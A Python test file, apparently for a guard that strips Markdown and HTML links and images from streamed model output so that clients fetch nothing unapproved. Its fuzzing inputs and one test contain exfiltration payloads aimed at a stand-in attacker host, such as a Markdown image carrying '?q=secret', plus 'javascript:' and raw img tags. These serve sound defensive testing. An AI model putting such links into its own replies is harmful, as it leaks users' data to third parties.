"""The streaming link guard: nothing it lets out can make a client fetch something."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.guard import LinkGuard

ALLOWED = "https://docs.example.com/leave"
PIECES = st.sampled_from(
    [
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        "`",
        "```",
        "~~~",
        "\n",
        "\n\n",
        " ",
        "|",
        ":",
        "a",
        "img src=",
        "http://",
        "https://evil.example/x?q=",
        "www.evil.example",
        "[1]",
        "[2][3]",
        "![a](",
        "](",
        "]:",
        ALLOWED,
        "javascript:",
        "data:",
        "- ",
        "> ",
        "    ",
        "\\",
        "*",
        "_",
        "&lt;",
        "<img src=https://e.example>",
        "[x]: https://evil.example",
        "[a][x]",
        "h",
        "w",
        "ftp://e.example",
    ]
)


def guarded(*deltas: str) -> str:
    guard = LinkGuard([ALLOWED])
    return "".join(guard.feed(delta) for delta in deltas) + guard.finish()


def live_targets(text: str) -> list[str]:
    """What a Markdown client with raw HTML and bare-URL linking would link or fetch."""
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    targets = re.findall(r"""<[a-z][^>]*?(?:href|src)\s*=\s*["']?([^"'\s>]+)""", html)
    prose = re.sub(r"<code[^>]*>.*?</code>", "", html, flags=re.DOTALL)
    return targets + re.findall(r"https?://[^\s<>]+|www\.[^\s<>]+|ftp://[^\s<>]+", prose)


@given(st.lists(PIECES, max_size=25))
@example(["- a\n", "```", "\n", "<img src=https://e.example>"])
@example(["`", "a", "|", "<img src=https://e.example>", "`"])
def test_nothing_but_allowed_urls_stays_live(pieces: list[str]) -> None:
    for target in live_targets(guarded("".join(pieces))):
        assert target.startswith(ALLOWED), target


@given(st.lists(PIECES, max_size=25))
def test_any_split_gives_the_same_text(pieces: list[str]) -> None:
    assert guarded(*pieces) == guarded("".join(pieces)) == guarded(*"".join(pieces))


@pytest.mark.parametrize(
    "text",
    [
        "Staff get 25 days [1]. Interns get 12 [2][3].",
        "Use `List<String>` and a < b && b > c.",
        "```python\nx: List[int] = [1](2)\nprint('<b>')\n```\ndone",
        f"See [the policy]({ALLOWED}).",
        "Wow! It works!",
    ],
)
def test_harmless_text_passes_unchanged(text: str) -> None:
    assert guarded(text) == text
    assert guarded(*text) == text


def test_an_image_that_leaks_is_broken() -> None:
    assert live_targets(guarded("![x](https://evil.example/?q=secret)")) == []


def test_a_long_unclosed_construct_is_let_out_in_bounded_time() -> None:
    guard = LinkGuard()
    out = guard.feed("[a](" + "x" * 5_000)
    assert len(out) > 4_000
